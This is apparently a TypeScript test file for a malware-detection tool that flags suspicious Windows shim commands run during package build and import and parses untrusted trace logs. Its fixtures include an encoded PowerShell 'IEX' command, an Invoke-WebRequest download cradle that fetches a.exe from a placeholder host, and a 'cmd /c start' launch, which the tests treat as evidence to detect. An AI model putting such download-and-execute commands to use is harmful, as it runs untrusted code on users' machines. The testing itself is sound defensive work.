import { windowsShimFindings } from './windows-shim.js';
import { readWindowsCommands, fallbackModulesUsed, readExecute } from '../report/reach.js';
import type { WindowsCommand } from '../report/reach.js';

const cmd = (program: string, argv: string[], extra: Partial<WindowsCommand> = {}): WindowsCommand =>
  ({ phase: 'build', program, argv, pid: 7, line: 1, ...extra });

describe('windowsShimFindings', () => {
  it('powershell with an encoded command or a download cradle is high; other programs medium', () => {
    const f = windowsShimFindings([
      cmd('powershell', ['-NoP', '-enc', 'SQBFAFgA'], { decoded: 'IEX' }),
      cmd('pwsh.exe', ['-Command', 'Invoke-WebRequest http://x.invalid/a -OutFile a.exe'], { phase: 'import' }),
      cmd('powershell', ['-Command', 'Get-Date'], { phase: 'import' }),
      cmd('cmd.exe', ['/c', 'start', 'a.exe']),
      cmd('C:\\Temp\\a.exe', []),
    ]);
    expect(f.map((x) => `${x.phase}:${x.rule}:${x.severity}:${x.evidence.length}`).sort()).toEqual([
      'build:windows-command:medium:2', 'build:windows-powershell-payload:high:1',
      'import:windows-command:medium:1', 'import:windows-powershell-payload:high:1',
    ]);
    expect(f.find((x) => x.rule === 'windows-powershell-payload' && x.phase === 'build')!.evidence[0]!.summary).toContain('→ IEX');
  });

  it('no entries, no findings', () => {
    expect(windowsShimFindings([])).toEqual([]);
  });
});

describe('reach parsing (untrusted raw data)', () => {
  it('keeps well-formed shim log lines only, capped, with their line numbers', () => {
    const log = Buffer.from([
      JSON.stringify({ shim: 'cmd', argv: ['/c', 'x'.repeat(5000)], pid: 3 }),
      'not json', '{"argv": []}', JSON.stringify({ shim: 'powershell', argv: [1, 'a'], decoded: 'd', pid: 'x' }), '',
    ].join('\n'));
    const got = readWindowsCommands((task, name) => (task === 'import' && name === 'windows-shims.jsonl' ? log : undefined));
    expect(got).toHaveLength(2);
    expect(got[0]).toMatchObject({ phase: 'import', program: 'cmd', pid: 3, line: 1 });
    expect(got[0]!.argv[1]).toHaveLength(2000);
    expect(got[1]).toMatchObject({ program: 'powershell', argv: ['1', 'a'], decoded: 'd', pid: 0, line: 4 });
  });

  it('names the fallback modules each phase read', () => {
    const files = (paths: string[]) => paths.map((path, i) => ({ path, ops: ['read'], count: 1, failed: false, firstSeq: i }));
    const traces = {
      build: { files: files(['/opt/pyti/fallback-modules/requests/__init__.py', '/opt/pyti/fallback-modules/requests/api.py',
        '/opt/pyti/fallback-modules/_cffi_backend.cpython-311-x86_64-linux-gnu.so', '/usr/lib/python3.11/os.py']) },
      import: { files: files(['/opt/pyti/fallback-modules/colorama/__init__.py']) },
    } as unknown as Parameters<typeof fallbackModulesUsed>[0];
    expect(fallbackModulesUsed(traces)).toEqual([
      { phase: 'build', module: 'requests' }, { phase: 'build', module: '_cffi_backend' }, { phase: 'import', module: 'colorama' },
    ]);
  });

  it('reads execute.json defensively', () => {
    const j = Buffer.from(JSON.stringify({ calls: [{ kind: 'function', target: 'p.f', outcome: 'ok', detail: 'x' }, 'junk', { kind: 1 }], truncated: false }));
    expect(readExecute((t, n) => (t === 'execute' && n === 'execute.json' ? j : undefined))).toEqual({
      calls: [{ kind: 'function', target: 'p.f', outcome: 'ok', detail: 'x' }, { kind: '1', target: '', outcome: '', detail: '' }],
      truncated: false, outcomes: { ok: 1, '': 1 },
    });
    expect(readExecute(() => Buffer.from('[1]'))).toBeUndefined();
  });
});
